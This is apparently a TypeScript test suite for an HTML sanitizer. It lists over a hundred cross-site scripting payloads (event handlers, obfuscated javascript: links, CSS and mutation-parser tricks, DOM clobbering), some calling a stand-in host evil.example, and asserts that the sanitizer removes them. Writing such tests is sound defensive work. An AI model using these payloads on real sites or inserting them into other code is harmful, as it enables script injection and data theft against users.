import assert from 'node:assert/strict'
import { test } from 'node:test'
import { fc } from '#tests/support/properties.ts'
import { allowedAttributes, allowedTags } from './allow-list.ts'
import { cleanHtml } from './clean.ts'

const image = 'data:image/png;base64,iVBORw0KGgo='

/** Each line is one attack; the headings say what it relies on. */
const attacks: Record<string, string[]> = {
  'an element that runs or loads by itself': [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<script/x>alert(1)</script >',
    '<script>alert(1)',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"><embed src="javascript:alert(1)"></object>',
    '<applet code=evil archive=//evil.example/a.jar></applet>',
    '<link rel=stylesheet href=//evil.example/x.css><link rel=import href=//evil.example/x>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//"><a href="/x">x</a>',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    '<form action="javascript:alert(1)"><input type=submit autofocus onfocus=alert(1)></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<portal src="javascript:alert(1)"></portal><fencedframe></fencedframe>',
    '<dialog open onclose=alert(1)>x</dialog><details open ontoggle=alert(1)>x</details>',
  ],
  'an event handler': [
    '<img src=x onerror=alert(1)>',
    `<img src="${image}" onload=alert(1)>`,
    '<img src=cid:x onerror=alert(1)>',
    '<p onclick="alert(1)" ONMOUSEOVER=alert(1) onanimationstart=alert(1)>x</p>',
    '<b onmouseover\n=\nalert(1)>x</b>',
    '<b/onmouseover=alert(1)/x=1>x</b>',
    '<b\fonmouseover=alert(1)>x</b>',
    '<b \u0000onmouseover=alert(1)>x</b>',
    '<b x="1"onmouseover="alert(1)">x</b>',
    '<b title="x" = onmouseover=alert(1)>x</b>',
    '<img src=`x`onerror=alert(1)>',
    '<img """><b onclick=alert(1)>">',
    '<body onload=alert(1) background="javascript:alert(1)">x</body>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<video onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
    '<table onbeforecopy=alert(1)><td onpointerrawupdate=alert(1)>x</table>',
    '<input onfocus=alert(1) autofocus><select onfocus=alert(1)><keygen onfocus=alert(1)>',
    '<p onfuturething=alert(1) on=1 on-x=1 data-on=1>x</p>',
  ],
  'the scheme of a link': [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \t\n javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#09;script:alert(1)">x</a>',
    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="&#0;javascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript&#x3a;alert(1)">x</a>',
    '<a href="java<!-- -->script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a><a href="livescript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    `<a href="${image}">x</a>`,
    '<a href="blob:https://own.example/1">x</a><a href="filesystem:http://own.example/">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a><a href="jar:http://evil.example!/x">x</a>',
    '<a href="feed:javascript:alert(1)">x</a><a href="ms-msdt:/id">x</a><a href="file:////evil.example/share">x</a>',
    '<a xlink:href="javascript:alert(1)" href="http://ok.example">x</a>',
    '<a href="http://ok.example" href="javascript:alert(1)" ping="//evil.example">x</a>',
    '<area href="javascript:alert(1)" shape=default><map name=x><area href="data:text/html,x"></map>',
    '<a href="http://ok.example" target="_top" rel="opener">x</a>',
    '<q cite="javascript:alert(1)">x</q><blockquote cite="javascript:alert(1)">x</blockquote>',
  ],
  'an image or another thing that is fetched': [
    '<img src="javascript:alert(1)">',
    '<img src="http://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif"><img src="\\\\evil.example\\x"><img src="/\\evil.example/x">',
    `<img src="${image}" srcset="//evil.example/x 2x" lowsrc="//evil.example" dynsrc="//evil.example">`,
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/png;base64,AAAA&quot; onerror=alert(1) x=&quot;">',
    '<img src="data:image/png,%89PNG">',
    '<img src="cid:x&quot;onerror=alert(1)">',
    '<img src="/api/v1/anything?do=it"><img src="?logout"><img src="x.png">',
    '<video poster="//evil.example/x" src="//evil.example/y"></video>',
    '<table background="//evil.example/x"><td background="javascript:alert(1)">x</table>',
    '<input type=image src="//evil.example/x"><picture><source srcset="//evil.example/x"></picture>',
    '<image src="//evil.example/x" xlink:href="//evil.example/x">',
  ],
  'a style': [
    '<style>@import "//evil.example/x.css"; input[value^=a]{background:url(//evil.example/a)}</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="background-image:url(//evil.example/x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="width:exp/**/ression(alert(1))">x</p>',
    '<p style="-moz-binding:url(//evil.example/x#y);behavior:url(//evil.example/x.htc)">x</p>',
    '<p style="color:\\75rl(//evil.example);c\\6flor:red">x</p>',
    '<p style="position:fixed;top:0;left:0;z-index:9999;width:100%;height:100%">x</p>',
    '<p style="margin:-9999px;text-indent:-9999px;opacity:0;display:none;visibility:hidden;font-size:0">x</p>',
    '<p style="color:red;&quot;onclick=alert(1)//">x</p>',
    '<p style="content:counter(x);color:var(--x);width:calc(1px);width:attr(x)">x</p>',
    '<p style="@import url(//evil.example);animation:x 1s;transition:all 1s;cursor:url(//evil.example/x),auto">x</p>',
    '<p style="color:rgb(0,0,0);}*{color:red">x</p>',
  ],
  'a parser that reads otherwise': [
    '<svg><script>alert(1)</script></svg>',
    '<svg onload=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><foreignObject><p><iframe src=javascript:alert(1)></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)">x</math><math><maction actiontype=statusline xlink:href=javascript:alert(1)>x',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror=alert(1)></template>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<select><template shadowrootmode=open><script>alert(1)</script></template></select>',
    '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--[if IE]><script>alert(1)</script><![endif]-->',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml-stylesheet href="javascript:alert(1)"?><?php x ?><img src=x onerror=alert(1)>',
    '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;',
    '<<script>script>alert(1)<</script>/script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '</script><script>alert(1)</script>',
    '<a href="x"<img src=x onerror=alert(1)>">x</a>',
    '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    '<p title=`><img src=x onerror=alert(1)>`>x</p>',
    '<b <img src=x onerror=alert(1)>>x</b>',
    '&lt;img src=x onerror=alert(1)&gt;',
    '&amp;lt;script&amp;gt;alert(1)',
    '\ufeff<img src=x onerror=alert(1)>\u2028<script>alert(1)</script>',
    '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<p\u0000title=x\u000bonclick=alert(1)>x</p>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<table><caption><svg><title><style><img src=x onerror=alert(1)></style></title></svg></caption></table>',
  ],
  'names that scripts look up': [
    '<a id=document name=cookie href=#x>x</a><img name=getElementById src=cid:x><form id=location></form>',
    '<p id=x class="modal admin" slot=y is=z part=w exportparts=v contenteditable tabindex=0 accesskey=x>x</p>',
    '<p __proto__=x constructor=y hasownproperty=z>x</p>',
    '<p data-controller=x v-html=y ng-app=z x-data=w hx-get="//evil.example">{{constructor.constructor("alert(1)")()}}</p>',
    '<constructor>x</constructor><__proto__>y</__proto__><tostring onclick=alert(1)>z',
  ],
  'a link made from text': [
    'http://x.example/"onclick=alert(1)',
    "http://x.example/'onclick=alert(1)",
    'http://x.example/&quot;onclick=alert(1)//&lt;img src=x onerror=alert(1)&gt;',
    'javascript://x.example/%0aalert(1)',
    'www.x.example/&amp;quot;onclick=alert(1)',
    'http://&#x202e;x.example http://user:pass@evil.example http://evil.example\\@ok.example',
  ],
}

/** Stricter than any browser: accepted HTML is read by every parser in the same way. */
function assertHarmless(html: string, given: string) {
  const tag = /^<\/?([a-z][a-z0-9]*)((?: [a-z-]+(?:="[^"<>]*")?)*)>$/
  for (const [token] of html.matchAll(/<[^>]*>?|[^<]+/g)) {
    if (!token.startsWith('<')) {
      assert.doesNotMatch(token, />/, `${given} → ${html}`)
      continue
    }
    const [, name = '', attributes = ''] = tag.exec(token) ?? assert.fail(`${given} → ${html}`)
    assert.ok(allowedTags.includes(name), `${given} → ${html}`)
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
      assertHarmlessAttribute(name, attribute, value)
    }
  }
}

function assertHarmlessAttribute(tag: string, attribute: string, value: string) {
  const names = [...(allowedAttributes['*'] ?? []), ...(allowedAttributes[tag] ?? []), 'class']
  const isNamed = names.some(
    (name) => name === attribute || (name.endsWith('*') && attribute.startsWith(name.slice(0, -1))),
  )
  assert.ok(isNamed && !attribute.startsWith('on'), `${tag} has ${attribute}`)
  if (attribute === 'src')
    assert.match(value, /^(?:cid:[^/\\]|data:image\/(?:png|jpeg|jpg|gif|webp);base64,[A-Za-z0-9+/=]+$)/i)
  if (attribute === 'style')
    assert.match(value, /^(?:[a-z-]+:[a-z0-9#%. -]*(?:(?:rgb|hsl)a?\([\d., %/]+\))?[^;()\\]*;)+$/)
  if (attribute === 'style') assert.doesNotMatch(value, /url|position|expression|var|calc|display|[@\\"'/*]|:-/)
  if (attribute !== 'href') return
  const { protocol } = new URL(value.replaceAll('&amp;', '&'), 'https://own.example')
  assert.match(protocol, /^(?:https?|ftps?|mailto|tel|sms|sips?|xmpp|geo):$/)
}

function clean(html: string): string {
  const cleaned = cleanHtml(html)
  return 'html' in cleaned ? cleaned.html : ''
}

for (const [mechanism, list] of Object.entries(attacks)) {
  test(`attacks by ${mechanism} are removed`, () => {
    for (const attack of list) {
      for (const given of [attack, `<div><p>before ${attack} after</p></div>`, `<a href="#x">${attack}</a>`]) {
        const html = clean(given)
        assertHarmless(html, given)
        assert.equal(clean(html), html, given)
      }
    }
  })
}

test('at least eighty attacks are tested', () => {
  assert.ok(Object.values(attacks).flat().length >= 80)
})

const tagName = fc.constantFrom(
  ...allowedTags,
  'script',
  'style',
  'svg',
  'math',
  'title',
  'textarea',
  'xmp',
  'template',
  'form',
  'font',
  'html',
  'body',
  'select',
  'o:p',
  'mtext',
  'desc',
  'a',
)
const attribute = fc
  .tuple(
    fc.constantFrom(
      'href',
      'src',
      'style',
      'title',
      'class',
      'width',
      'height',
      'onclick',
      'name',
      'rel',
      'target',
      'data-signature',
      'align',
      'nowrap',
    ),
    fc.constantFrom(
      '',
      'x',
      'http://x.example/?a=1&b=2',
      'javascript:1',
      ' JAVA\tscript:1',
      'cid:a@b',
      image,
      '//x',
      '#x',
      'color:red',
      'width:1px;x:url(y)',
      '100',
      '50%',
      '"<>&\'',
      '&#1;&#13;x',
      'yahoo_quoted other',
    ),
    fc.constantFrom('"', "'", ''),
  )
  .map(([name, value, quote]) => ` ${name}=${quote}${value}${quote}`)
const piece = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .tuple(tagName, fc.array(attribute, { maxLength: 3 }))
      .map(([name, list]) => `<${name}${list.join('')}>`),
  },
  { weight: 3, arbitrary: tagName.map((name) => `</${name}>`) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      'text',
      ' ',
      '\n',
      '\r',
      'http://x.example/a.',
      '(www.x.example)',
      'ftp://x,',
      '&amp;',
      '&lt;',
      '&nbsp;',
      '&#x1f600;',
      '&#13;',
      '<!--',
      '-->',
      '<',
      '>',
      '"',
      '<br/>',
      ']]>',
      '<![CDATA[',
      '<?',
      '\u0000',
      '\ud800',
    ),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
)

test('any combination becomes harmless, and sanitizing again changes nothing', () => {
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
      const given = pieces.join('')
      const html = clean(given)
      assertHarmless(html, given)
      assert.equal(clean(html), html)
    }),
    { numRuns: 1500 },
  )
})
